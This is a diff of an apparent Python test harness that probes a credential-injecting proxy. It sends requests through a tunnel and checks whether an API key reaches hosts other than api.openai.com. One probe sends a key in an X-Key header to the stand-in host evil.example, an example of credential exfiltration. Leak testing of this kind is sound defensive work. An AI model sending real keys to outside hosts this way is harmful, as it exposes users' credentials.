@@ -9,6 +9,7 @@ import socket
 import ssl
 
 PLACEHOLDER = os.environ["OPENAI_API_KEY"]
+OWN = "sk-of-somebody-else"  # where a placeholder would be refused for being one
 CA = os.environ["SSL_CERT_FILE"]
 ATTEMPTS = {}
 
@@ -18,8 +19,8 @@ def attempt(function):
     return function
 
 
-def ask(wire, target, host, method="GET", **headers):
-    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"Authorization: Bearer {PLACEHOLDER}"]
+def ask(wire, target, host, method="GET", key=OWN, **headers):
+    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"Authorization: Bearer {key}"]
     lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
     wire.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
     return int(wire.recv(1 << 16).split()[1])
@@ -46,7 +47,7 @@ def secure(wire, name):
 @attempt
 def as_it_should_be():
     with secure(tunnel("api.openai.com:443"), "api.openai.com") as wire:
-        return ask(wire, "/v1/models", "api.openai.com")
+        return ask(wire, "/v1/models", "api.openai.com", key=PLACEHOLDER)
 
 
 @attempt
@@ -88,7 +89,7 @@ def to_another_port():
 @attempt
 def to_another_host():
     with secure(tunnel("evil.example:443"), "evil.example") as wire:
-        return ask(wire, "/v1/models", "evil.example", X_Key=PLACEHOLDER)
+        return ask(wire, "/v1/models", "evil.example", X_Key=OWN)
 
 
 @attempt
